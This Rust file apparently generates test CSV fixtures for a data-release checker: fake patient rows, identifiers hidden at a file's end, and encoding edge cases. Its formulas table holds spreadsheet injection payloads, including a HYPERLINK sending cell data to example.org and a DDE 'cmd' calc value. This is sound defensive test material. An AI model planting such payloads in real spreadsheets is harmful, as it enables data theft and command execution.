//! Tables that should never have been submitted: a row for each person, with the names, numbers and addresses of nobody.
//! Also tables made to trip a reader: formulas, encodings, line ends, lone quotes, long lines. Called by [`super::batches`].

use std::fmt::Write as _;

use super::SampleFile;
use super::numbers::{Numbers, nhs_number};

const GIVEN: &[&str] = &["Test", "Sample", "Example", "Demo", "Placeholder"];
const FAMILY: &[&str] = &["Patient", "Person", "Record", "Case", "Subject"];

/// Rows of people: identifiers, dates of birth, postcodes that the post never uses, mail, free text with a name in it.
pub fn cohort(rows: u32) -> SampleFile {
    let mut numbers = Numbers::of("cohort");
    let mut text = "patient_id,nhs_number,name,dob,postcode,email,lvef,note\n".to_owned();
    let people = (1..).filter_map(|n| Some((n, nhs_number(n * 7919)?)));
    for (n, nhs) in people.take(usize::try_from(rows).unwrap_or_default()) {
        let (given, family) = (numbers.one_of(GIVEN), numbers.one_of(FAMILY));
        let (year, month, day) = (numbers.between(1931, 1989), numbers.between(1, 12), numbers.between(1, 28));
        let _ = writeln!(
            text,
            "P{n:05},{nhs},{given} {family},{year}-{month:02}-{day:02},ZZ99 {}VZ,p{n}@example.org,{},\"Seen with daughter, {given} prefers mornings\"",
            n % 10,
            numbers.between(18, 64),
        );
    }
    SampleFile::text("extracts/cohort_rows.csv", text)
}

/// A table of counts with the linkage file's identifiers left at its end.
pub fn tail_of_identifiers() -> SampleFile {
    let mut numbers = Numbers::of("tail");
    let mut text = "practice,patients,copd_register\n".to_owned();
    for practice in 1..=5200 {
        let _ = writeln!(text, "Practice {practice:04},{},{}", numbers.between(2100, 19_000), numbers.between(20, 480));
    }
    for nhs in (1..).filter_map(|n| nhs_number(n * 104_729)).take(12) {
        let _ = writeln!(text, "{nhs},1,1");
    }
    SampleFile::text("tables/copd_register_by_practice.csv", text)
}

/// Many columns; the one with postcodes is number 310.
pub fn wide() -> SampleFile {
    let mut numbers = Numbers::of("wide");
    let header: Vec<String> =
        (1..=320).map(|n| if n == 310 { "home_postcode".to_owned() } else { format!("snp_{n:03}_n") }).collect();
    let mut text = header.join(",") + "\n";
    for row in 0..24 {
        let cells: Vec<String> = (1..=320)
            .map(|n| if n == 310 { format!("ZZ99 {}VZ", row % 10) } else { numbers.between(11, 980).to_string() })
            .collect();
        text.push_str(&cells.join(","));
        text.push('\n');
    }
    SampleFile::text("tables/genotype_counts_wide.csv", text)
}

/// Tables that readers of CSV disagree about.
pub fn awkward() -> Vec<SampleFile> {
    let text = |key, text: &str| SampleFile::text(key, text.to_owned());
    let long = format!("id,values\n1,\"{}\"\n2,12\n", "0.4713 ".repeat(40_000));
    let blank = "\n".repeat(400);
    let hidden = format!("band,n\nunder 65,310\n65 and over,544\n{blank}# left from linkage: 9990079196 1941-03-02\n");
    vec![
        text(
            "tables/formulas.csv",
            "site,n,note\nA,120,=HYPERLINK(\"http://example.org/?\"&B2)\nB,88,+1+1\nC,140,@SUM(B2:B4)\nD,95,\"-2+3+cmd|' /C calc'!A0\"\n",
        ),
        text(
            "tables/uneven_rows.csv",
            "visit,n,missing\nbaseline,1208,0\nweek 4,1177\nweek 12,1102,41,see note\n\nweek 26,980,118\n",
        ),
        text(
            "tables/lone_quotes.csv",
            "drug,n\n\"bisoprolol,410\ncarvedilol\" 12.5 mg,322\nivabradine,\"58\nsacubitril/valsartan,199\n",
        ),
        SampleFile::text("tables/long_line.csv", long),
        SampleFile::text("tables/rows_after_the_end.csv", hidden),
        text("tables/after_nul.csv", "band,n\n18-64,812\n65+,1033\n\0patient_id,dob\nP00041,1950-01-30\n"),
        text("tables/empty.csv", ""),
    ]
}

/// Tables in the encodings and with the line ends that are still around.
pub fn encodings() -> Vec<SampleFile> {
    let text = |key, text: &str| SampleFile::text(key, text.to_owned());
    let utf16 = "group\tn\tmoyenne\nt\u{e9}moins\t412\t3,2\ntrait\u{e9}s\t398\t2,9\n".encode_utf16();
    let mut sixteen = vec![0xff, 0xfe];
    sixteen.extend(utf16.flat_map(u16::to_le_bytes));
    let latin = "h\u{f4}pital;patients;d\u{e9}c\u{e8}s\nSaint-\u{c9}loi;214;11\nH\u{f4}tel-Dieu;388;26\n";
    let latin: Vec<u8> = latin.chars().map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?')).collect();
    vec![
        text("tables/with_bom.csv", "\u{feff}arm,n,events\nplacebo,610,88\ntreatment,604,61\n"),
        text("tables/from_excel_crlf.csv", "arm,n,events\r\nplacebo,610,88\r\ntreatment,604,61\r\n"),
        text("tables/old_mac_cr.csv", "arm,n,events\rplacebo,610,88\rtreatment,604,61\r"),
        SampleFile::new("tables/resultats_utf16.tsv", sixteen),
        SampleFile::new("tables/hopitaux_latin1.csv", latin),
    ]
}
